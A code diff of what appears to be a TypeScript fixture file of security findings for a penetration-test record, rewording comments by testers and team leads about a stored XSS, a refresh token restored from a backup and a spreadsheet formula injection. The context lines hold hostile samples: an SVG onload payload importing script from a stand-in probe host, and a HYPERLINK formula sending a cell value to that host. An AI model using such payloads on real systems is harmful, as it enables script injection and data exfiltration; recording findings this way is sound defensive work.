@@ -20,13 +20,13 @@ export const appHistories: readonly FindingHistory[] = [
     hostile: ['<svg/onload=\\"import(\'https://il-probe.example/p.js\')\\">'],
     proof: ['GET /internal/kyc/cases        200, 50 cases per page'],
     events: [
-      reported(['2026-03-12', webTester, 'Our probe answered 14 minutes after the reply was stored.']),
+      reported(['2026-03-12', webTester, 'Our probe called back 14 minutes after the reply was saved.']),
       said([
         '2026-03-13',
         'Back-office team lead',
         'Two other views use the same filter. Are they affected?',
       ]),
-      said(['2026-03-13', webTester, 'Checked: both show text only. Remove the filter all the same.']),
+      said(['2026-03-13', webTester, 'Checked: both show text only. Remove the filter anyway.']),
       fixed([
         '2026-04-15',
         'Back-office team lead',
@@ -46,11 +46,11 @@ export const appHistories: readonly FindingHistory[] = [
     hostile: ['refresh_token=mrt_4f0c9a...', '"session.refreshToken" => "mrt_4f0c9a..."'],
     proof: ['HTTP/1.1 200 OK', '"access_token":"eyJ..."'],
     events: [
-      reported(['2026-03-18', mobileTester, 'The token of a backup worked from another machine.']),
+      reported(['2026-03-18', mobileTester, 'The token from a backup worked on another machine.']),
       fixed([
         '2026-04-16',
         'Mobile team lead',
-        'Version 4.8.2: keychain, this device only; the old entry is deleted at the first start.',
+        'Version 4.8.2: keychain, this device only; the old entry is deleted on first launch.',
       ]),
     ],
     answers: holds('A fresh backup of version 4.8.2 holds no token, and neither does the container.'),
@@ -66,7 +66,7 @@ export const appHistories: readonly FindingHistory[] = [
     hostile: ['=HYPERLINK(""https://il-probe.example/?v=""&B2,""Invoice 4711"")'],
     proof: [],
     events: [
-      reported(['2026-03-11', webTester, 'A reference that the payer chose became a link in the sheet.']),
+      reported(['2026-03-11', webTester, 'A reference the payer chose became a link in the spreadsheet.']),
       said([
         '2026-03-30',
         'Back-office team lead',
